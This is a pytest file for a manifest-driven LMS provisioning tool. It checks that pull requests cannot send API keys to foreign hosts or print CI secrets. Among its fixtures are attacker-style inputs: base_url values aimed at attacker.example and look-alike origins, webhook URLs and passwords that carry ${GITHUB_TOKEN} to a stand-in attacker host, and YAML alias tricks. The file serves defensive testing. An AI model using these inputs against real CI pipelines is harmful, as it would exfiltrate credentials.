"""The trusted side decides where credentials go and which variables manifests read.

A pull request can edit every manifest, lmsform.yaml included. It must not be able to send the API
key to a host its author controls (`base_url`), nor print the runner's variables in the plan
(`first_name: ${HOME}`). Only the environment, which the workflow on the default branch sets, widens
either rule: LMSFORM_ALLOWED_ORIGINS and LMSFORM_VARIABLES.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from lmsform import app, secrets
from lmsform.errors import ManifestError
from lmsform.manifest import load_project
from lmsform.providers import registry
from lmsform.providers.emulation.server import EmulatorServer
from lmsform.providers.skilljar.settings import SkilljarSettings
from tests.conftest import CANARY_KEY, DOMAIN, CliRunnerCall, ProjectDir, api_calls

if TYPE_CHECKING:
    from _typeshed.wsgi import StartResponse, WSGIEnvironment

PEOPLE = "users:\n  - email: jane@acme.com\n    first_name: Jane\n"
RUNNER_HOME = "/home/runner-CANARY-0b7e"
CI_SECRET = "ghp_CANARY_5d1f0a9c77e2"


def _answer_anything(environ: WSGIEnvironment, start_response: StartResponse) -> Iterable[bytes]:
    """A host the attacker controls: it answers every request with an empty page of results."""
    start_response("200 OK", [("Content-Type", "application/json")])
    return [json.dumps({"count": 0, "next": None, "previous": None, "results": []}).encode()]


@pytest.fixture
def attacker() -> Iterator[EmulatorServer]:
    """A server that records every request it gets, as an attacker's would."""
    with EmulatorServer(_answer_anything) as server:
        yield server


def _skilljar_config(base_url: str, extra: str = "") -> str:
    return (
        f"provider:\n  type: skilljar\n  domain: {DOMAIN}\n  api_key: ${{SKILLJAR_API_KEY}}\n"
        f"  base_url: {base_url}\n{extra}"
    )


def _settings(base_url: str | None, **extra: object) -> SkilljarSettings:
    given = {"type": "skilljar", "domain": DOMAIN, "api_key": CANARY_KEY, "base_url": base_url}
    return SkilljarSettings.model_validate({**given, **extra})


def _received_the_key(server: EmulatorServer) -> bool:
    """Skilljar's key goes as the user name of HTTP basic authentication."""
    sent = "Basic " + base64.b64encode(f"{CANARY_KEY}:".encode()).decode()
    return any(request.headers.get("Authorization") == sent for request in server.requests)


# --- where credentials go ---------------------------------------------------------------------------


def test_attack_base_url_to_a_foreign_host_sends_it_nothing(
    attacker: EmulatorServer, project: ProjectDir, cli: CliRunnerCall, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The pull request points base_url at its own host (reached here through a proxy on loopback, as
    a real host would be over the network) and allows plain http. The plan must send it nothing."""
    for name in ("HTTP_PROXY", "http_proxy"):
        monkeypatch.setenv(name, attacker.url)
    for name in ("NO_PROXY", "no_proxy"):
        monkeypatch.delenv(name, raising=False)
    project.write(
        "lmsform.yaml", _skilljar_config("http://lms.attacker.example/api", "  allow_insecure: true\n")
    )
    project.write("people.yaml", PEOPLE)

    result = cli("plan", project.root)

    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "Error: project/lmsform.yaml:5:13: base_url: lmsform will not send the credentials to "
        "http://lms.attacker.example: it is neither the vendor's API (https://api.skilljar.com) nor a "
        "loopback address (127.0.0.1, ::1). If it is yours, allow it where a pull request cannot: set "
        "LMSFORM_ALLOWED_ORIGINS=http://lms.attacker.example in the environment (the CI workflow), "
        "comma-separated with any others"
    )
    assert attacker.requests == []


def test_attack_a_name_that_resolves_to_loopback_is_not_loopback(
    attacker: EmulatorServer, project: ProjectDir, cli: CliRunnerCall
) -> None:
    """`localhost` is a name: resolvers and proxies decide where it goes. Only IP literals count."""
    named = attacker.url.replace("127.0.0.1", "localhost")
    project.write("lmsform.yaml", _skilljar_config(named, "  allow_insecure: true\n"))
    project.write("people.yaml", PEOPLE)

    result = cli("plan", project.root)

    assert result.exit_code == 1
    assert f"lmsform will not send the credentials to {named}" in result.stderr
    assert attacker.requests == []


def test_attack_plain_http_by_name_still_needs_allow_insecure_when_allowed(
    project: ProjectDir, cli: CliRunnerCall
) -> None:
    """Allowing an origin does not allow sending the key over plain http to it."""
    project.write("lmsform.yaml", _skilljar_config("http://localhost:8080"))

    result = cli("plan", project.root, env={"LMSFORM_ALLOWED_ORIGINS": "http://localhost:8080"})

    assert result.exit_code == 1
    assert "base_url http://localhost:8080 is plain http:// to another machine" in result.stderr


def test_an_origin_the_environment_allows_gets_the_credentials(
    skilljar: EmulatorServer, project: ProjectDir, cli: CliRunnerCall
) -> None:
    named = skilljar.url.replace("127.0.0.1", "localhost")
    project.write("lmsform.yaml", _skilljar_config(named, "  allow_insecure: true\n"))
    project.write("people.yaml", PEOPLE)

    result = cli("plan", project.root, env={"LMSFORM_ALLOWED_ORIGINS": f"https://other.example, {named}/"})

    assert result.exit_code == 0, result.output
    assert api_calls(skilljar) and _received_the_key(skilljar)
    assert CANARY_KEY not in result.output


def test_a_loopback_literal_needs_no_setting(
    skilljar: EmulatorServer, project: ProjectDir, cli: CliRunnerCall
) -> None:
    project.configure(skilljar.url)
    project.write("people.yaml", PEOPLE)

    result = cli("plan", project.root, env={"LMSFORM_ALLOWED_ORIGINS": None})

    assert result.exit_code == 0, result.output
    assert _received_the_key(skilljar)


@pytest.mark.parametrize(
    "base_url",
    [
        None,
        "https://api.skilljar.com",
        "https://API.Skilljar.com:443/v1/",
        "http://127.0.0.1:8000",
        "http://127.9.8.7:8000/api",
        "http://[::1]:8000",
        "http://127.1:8000",  # the same address, written short: URLs are read in one canonical form
    ],
)
def test_the_vendor_and_loopback_literals_are_allowed_without_a_setting(base_url: str | None) -> None:
    settings = _settings(base_url)

    assert settings.credential_refusal(frozenset()) is None


@pytest.mark.parametrize(
    ("base_url", "destination"),
    [
        ("https://api.skilljar.com.attacker.example", "https://api.skilljar.com.attacker.example"),
        ("https://api.skilljar.com:8443", "https://api.skilljar.com:8443"),
        ("http://api.skilljar.com", "http://api.skilljar.com"),
        ("https://localhost", "https://localhost"),
        ("https://[::ffff:127.0.0.1]", "https://[::ffff:7f00:1]"),
        ("https://127.0.0.1.attacker.example", "https://127.0.0.1.attacker.example"),
    ],
)
def test_attack_look_alike_origins_are_foreign(base_url: str, destination: str) -> None:
    settings = _settings(base_url, allow_insecure=True)

    refusal = settings.credential_refusal(frozenset({"https://api.skilljar.com"}))

    assert refusal is not None and f"to {destination}:" in refusal


def test_attack_two_parsers_cannot_disagree_on_the_host() -> None:
    """A backslash or a user part makes some parsers see another host than others: the URL is judged
    and used in one canonical form, and a user part is refused outright."""
    confusing = _settings("https://api.skilljar.com\\@attacker.example/")
    assert confusing.base_url == "https://api.skilljar.com/@attacker.example"
    with pytest.raises(ValueError, match="must not hold a user name or password"):
        _settings("https://api.skilljar.com@attacker.example")


def test_attack_connect_checks_again_whatever_the_project_says(
    attacker: EmulatorServer, project: ProjectDir
) -> None:
    """A second line: a project whose allowed origins no longer cover its API root never connects."""
    named = attacker.url.replace("127.0.0.1", "localhost")
    project.write("lmsform.yaml", _skilljar_config(named, "  allow_insecure: true\n"))
    environ = {"SKILLJAR_API_KEY": CANARY_KEY, "LMSFORM_ALLOWED_ORIGINS": named}
    loaded = load_project(project.root, providers=registry(), environ=environ)
    assert loaded.allowed_origins == {named}

    with (
        pytest.raises(ManifestError, match="will not send the credentials"),
        app.connect(replace(loaded, allowed_origins=frozenset())),
    ):
        pass
    assert attacker.requests == []


def test_an_allowed_origin_must_be_an_origin(project: ProjectDir, cli: CliRunnerCall) -> None:
    project.write("lmsform.yaml", _skilljar_config("https://eu.lms.example"))

    result = cli("plan", project.root, env={"LMSFORM_ALLOWED_ORIGINS": "https://eu.lms.example/api"})

    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "Error: LMSFORM_ALLOWED_ORIGINS: 'https://eu.lms.example/api' is not an origin: write scheme and "
        "host, and the port if it is not the default, e.g. https://eu.example.com or "
        "https://lms.example.com:8443"
    )


def test_validate_needs_no_allowed_origin(project: ProjectDir, cli: CliRunnerCall) -> None:
    project.write("lmsform.yaml", _skilljar_config("https://eu.lms.example"))

    result = cli("validate", project.root, env={"SKILLJAR_API_KEY": None})

    assert result.exit_code == 0, result.output


# --- which variables manifests read -----------------------------------------------------------------


def test_attack_home_in_a_manifest_is_refused_without_its_value(
    skilljar: EmulatorServer, project: ProjectDir, cli: CliRunnerCall
) -> None:
    project.configure(skilljar.url)
    project.write("people.yaml", "users:\n  - email: jane@acme.com\n    first_name: ${HOME}\n")

    result = cli("plan", project.root, env={"HOME": RUNNER_HOME})

    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "Error: project/people.yaml:3:17: ${HOME} may not be read: manifest values read only variables "
        "named LMSFORM_* or listed in LMSFORM_VARIABLES, so that a pull request cannot print the runner's "
        "variables in its plan. Rename it LMSFORM_HOME, or add HOME to LMSFORM_VARIABLES where the "
        "manifests cannot change it (the CI workflow's env)"
    )
    assert RUNNER_HOME not in result.output
    assert skilljar.requests == []


@pytest.mark.parametrize(
    ("file", "text", "where"),
    [
        ("people.yaml", "users:\n  - email: jane@acme.com\n    last_name: Doe ${GITHUB_TOKEN}\n", "3:16"),
        (
            "hooks.yaml",
            "webhooks:\n  - url: https://hooks.attacker.example/in\n"
            "    basic_auth_password: ${GITHUB_TOKEN}\n",
            "3:26",
        ),
        ("hooks.yaml", "webhooks:\n  - url: https://hooks.attacker.example/${GITHUB_TOKEN}\n", "2:10"),
    ],
)
def test_attack_a_ci_secret_in_a_manifest_value_is_refused(
    skilljar: EmulatorServer, project: ProjectDir, cli: CliRunnerCall, file: str, text: str, where: str
) -> None:
    """A name, a webhook password (sent to whatever URL the webhook names) or a URL: none may read a
    variable the environment did not offer."""
    project.configure(skilljar.url)
    project.write(file, text)

    result = cli("plan", project.root, env={"GITHUB_TOKEN": CI_SECRET})

    assert result.exit_code == 1
    assert f"Error: project/{file}:{where}: ${{GITHUB_TOKEN}} may not be read" in result.stderr
    assert CI_SECRET not in result.output
    assert skilljar.requests == []


def test_attack_a_setting_that_is_no_credential_follows_the_rule(
    project: ProjectDir, cli: CliRunnerCall
) -> None:
    """The domain is shown in every plan's header: it may not read a CI secret either."""
    project.write(
        "lmsform.yaml",
        "provider:\n  type: skilljar\n  domain: ${GITHUB_TOKEN}\n  api_key: ${SKILLJAR_API_KEY}\n",
    )

    result = cli("plan", project.root, env={"GITHUB_TOKEN": CI_SECRET})

    assert result.exit_code == 1
    assert "project/lmsform.yaml:3:11: ${GITHUB_TOKEN} may not be read" in result.stderr
    assert CI_SECRET not in result.output


def test_attack_validate_reads_no_variable_the_environment_did_not_offer(
    project: ProjectDir, cli: CliRunnerCall
) -> None:
    """validate prints the target; offline, an unlisted variable is left as written, never read."""
    project.write(
        "lmsform.yaml",
        "provider:\n  type: skilljar\n  domain: ${GITHUB_TOKEN}\n  api_key: ${SKILLJAR_API_KEY}\n",
    )

    result = cli("validate", project.root, env={"GITHUB_TOKEN": CI_SECRET})

    assert result.exit_code == 0, result.output
    assert result.stdout == "Valid: nothing declared for Skilljar ${GITHUB_TOKEN}.\n"


@pytest.mark.parametrize("place", ["  api_key: ${LMSFORM_PLAN_KEY}\n", "  domain: ${LMSFORM_PLAN_KEY}\n"])
def test_attack_the_plan_key_is_read_by_no_manifest_value(
    project: ProjectDir, cli: CliRunnerCall, place: str
) -> None:
    """lmsform's own settings are not manifest values, not even for a credential setting."""
    settings = {"domain": f"  domain: {DOMAIN}\n", "api_key": "  api_key: ${SKILLJAR_API_KEY}\n"}
    settings[place.split(":")[0].strip()] = place
    project.write("lmsform.yaml", "provider:\n  type: skilljar\n" + "".join(settings.values()))

    result = cli("plan", project.root, env={"LMSFORM_PLAN_KEY": CI_SECRET})

    assert result.exit_code == 1
    assert (
        "${LMSFORM_PLAN_KEY} is a setting of lmsform itself, which no manifest value may read"
        in result.stderr
    )
    assert CI_SECRET not in result.output


def test_a_listed_or_lmsform_variable_is_read(
    skilljar: EmulatorServer, project: ProjectDir, cli: CliRunnerCall
) -> None:
    project.configure(skilljar.url)
    project.write(
        "people.yaml",
        "users:\n  - email: jane@acme.com\n    first_name: ${CREW_FIRST}\n    last_name: ${LMSFORM_LAST}\n",
    )
    environment: dict[str, str | None] = {
        "CREW_FIRST": "Janet",
        "LMSFORM_LAST": "Doyle",
        "LMSFORM_VARIABLES": " OTHER ,CREW_FIRST",
    }

    result = cli("plan", project.root, env=environment)

    assert result.exit_code == 0, result.output
    assert "Janet" in result.stdout and "Doyle" in result.stdout


def test_a_listed_variable_must_be_a_name(project: ProjectDir, cli: CliRunnerCall) -> None:
    project.write("lmsform.yaml", _skilljar_config("https://api.skilljar.com"))

    result = cli("plan", project.root, env={"LMSFORM_VARIABLES": "CREW_FIRST,$HOME"})

    assert result.exit_code == 1
    assert (
        "Error: LMSFORM_VARIABLES: '$HOME' is not a variable name: list names such as HOOK_PASSWORD, "
        "separated by commas"
    ) in result.stderr


def test_a_credential_comes_from_any_variable_and_is_masked(
    skilljar: EmulatorServer, project: ProjectDir, cli: CliRunnerCall
) -> None:
    project.write(
        "lmsform.yaml",
        f"provider:\n  type: skilljar\n  domain: {DOMAIN}\n  api_key: ${{VAULT_SKILLJAR}}\n"
        f"  base_url: {skilljar.url}\n",
    )
    project.write("people.yaml", PEOPLE)

    result = cli("plan", project.root, env={"VAULT_SKILLJAR": CANARY_KEY, "SKILLJAR_API_KEY": None})

    assert result.exit_code == 0, result.output
    assert _received_the_key(skilljar)
    assert secrets.redact(f"key {CANARY_KEY}") == f"key {secrets.MASK}"


def test_the_training_records_api_user_is_a_credential(tmp_path: Path) -> None:
    """Half of a basic credential: it may come from any variable, and is masked like the key."""
    (tmp_path / "lmsform.yaml").write_text(
        "provider:\n  type: training-records\n  username: ${VAULT_USER}\n  api_key: ${VAULT_KEY}\n",
        encoding="utf-8",
    )
    user = "api-user-CANARY-31"

    load_project(tmp_path, providers=registry(), environ={"VAULT_USER": user, "VAULT_KEY": CANARY_KEY})

    assert secrets.redact(user) == secrets.MASK


# --- a value that reads a variable is written where it is used ------------------------------------


def _damstra_config(*, access_key: str, organisation: str) -> str:
    return (
        f"provider:\n  type: damstra\n  access_key: {access_key}\n  organisation: {organisation}\n"
        "  base_url: sandbox\n"
    )


@pytest.mark.parametrize(
    "command",
    [("validate",), ("plan",), ("plan", "--format", "markdown"), ("plan", "--format", "json")],
    ids=["validate", "plan-text", "plan-markdown", "plan-json"],
)
def test_attack_an_alias_cannot_carry_a_credential_variable_into_the_plan_header(
    project: ProjectDir, cli: CliRunnerCall, command: tuple[str, ...]
) -> None:
    """A credential setting may read any variable, and the check went by where a value is written; an
    alias's value is written at its anchor. `organisation: *k` with `access_key: &k ${GITHUB_TOKEN}`
    printed the CI secret as the organisation in every plan's header, and in validate's."""
    project.write("lmsform.yaml", _damstra_config(access_key="&k ${GITHUB_TOKEN}", organisation="*k"))

    result = cli(*command, project.root, env={"GITHUB_TOKEN": CI_SECRET})

    assert result.exit_code == 1
    assert (
        "Error: project/lmsform.yaml:4:3: this is an alias of the value at line 3, column 15, which reads "
        "${GITHUB_TOKEN}: a value that reads an environment variable must be written where it is used"
    ) in result.stderr
    assert "Write ${GITHUB_TOKEN} here instead of the alias" in result.stderr
    assert CI_SECRET not in result.output


def test_attack_the_anchor_need_not_come_first(project: ProjectDir, cli: CliRunnerCall) -> None:
    """The anchor in the plain setting and the alias in the credential one: the credential's place is
    then the anchor's, so the plain setting would read any variable. Neither reads it."""
    project.write(
        "lmsform.yaml",
        "provider:\n  type: damstra\n  organisation: &k ${GITHUB_TOKEN}\n  access_key: *k\n"
        "  base_url: sandbox\n",
    )

    result = cli("validate", project.root, env={"GITHUB_TOKEN": CI_SECRET})

    assert result.exit_code == 1
    assert "Error: project/lmsform.yaml:4:3: this is an alias of the value at line 3, column 17" in (
        result.stderr
    )
    assert CI_SECRET not in result.output


@pytest.mark.parametrize("command", ["validate", "plan"])
def test_attack_an_alias_cannot_carry_the_api_key_into_the_skilljar_domain(
    skilljar: EmulatorServer, project: ProjectDir, cli: CliRunnerCall, command: str
) -> None:
    project.write(
        "lmsform.yaml",
        "provider:\n  type: skilljar\n  api_key: &k ${GITHUB_TOKEN}\n  domain: *k\n"
        f"  base_url: {skilljar.url}\n",
    )
    project.write("people.yaml", PEOPLE)

    result = cli(command, project.root, env={"GITHUB_TOKEN": CI_SECRET})

    assert result.exit_code == 1
    assert "Error: project/lmsform.yaml:4:3: this is an alias of the value at line 3, column 12" in (
        result.stderr
    )
    assert CI_SECRET not in result.output
    assert skilljar.requests == []


def test_attack_a_merge_key_cannot_repeat_a_value_that_reads_a_variable(
    project: ProjectDir, cli: CliRunnerCall
) -> None:
    """`<<: *p` repeats every value of the anchored mapping elsewhere, the credential's among them. A
    merged entry has no place of its own, so the error is at the value the merge repeats."""
    project.write(
        "lmsform.yaml",
        _damstra_config(access_key="${GITHUB_TOKEN}", organisation="acme").replace(
            "provider:", "provider: &p"
        )
        + "manage:\n  <<: *p\n",
    )

    result = cli("validate", project.root, env={"GITHUB_TOKEN": CI_SECRET})

    assert result.exit_code == 1
    assert (
        "Error: project/lmsform.yaml:3:15: an alias (or a `<<` merge) repeats this value, which reads "
        "${GITHUB_TOKEN}, elsewhere"
    ) in result.stderr
    assert CI_SECRET not in result.output


def test_attack_a_merge_in_a_resource_file_is_refused_too(project: ProjectDir, cli: CliRunnerCall) -> None:
    """The rule is one for every file: an alias repeats no value that reads a variable, even one the
    environment offers."""
    project.write("lmsform.yaml", _skilljar_config("https://api.skilljar.com"))
    project.write(
        "people.yaml",
        "users:\n  - &u {email: jane@acme.com, first_name: '${LMSFORM_FIRST}'}\n"
        "  - <<: *u\n    email: john@acme.com\n",
    )

    result = cli("validate", project.root, env={"LMSFORM_FIRST": "Jane"})

    assert result.exit_code == 1
    assert "Error: project/people.yaml:2:43: an alias (or a `<<` merge) repeats this value" in result.stderr


def test_aliases_of_values_that_read_no_variable_still_work(
    skilljar: EmulatorServer, project: ProjectDir, cli: CliRunnerCall
) -> None:
    project.configure(skilljar.url)
    project.write(
        "people.yaml",
        "users:\n"
        "  - &jane\n    email: jane@acme.com\n    first_name: &first Jane\n    last_name: &last 'Doe $$'\n"
        "  - email: john@acme.com\n    first_name: *first\n    last_name: *last\n"
        "  - <<: *jane\n    email: jill@acme.com\n",
    )

    result = cli("plan", "--format", "json", project.root)

    assert result.exit_code == 0, result.output
    created = [change for change in json.loads(result.stdout)["changes"] if change["action"] == "create"]
    assert sorted(
        (c["after"]["email"], c["after"]["first_name"], c["after"]["last_name"]) for c in created
    ) == [
        ("jane@acme.com", "Jane", "Doe $"),
        ("jill@acme.com", "Jane", "Doe $"),
        ("john@acme.com", "Jane", "Doe $"),
    ]
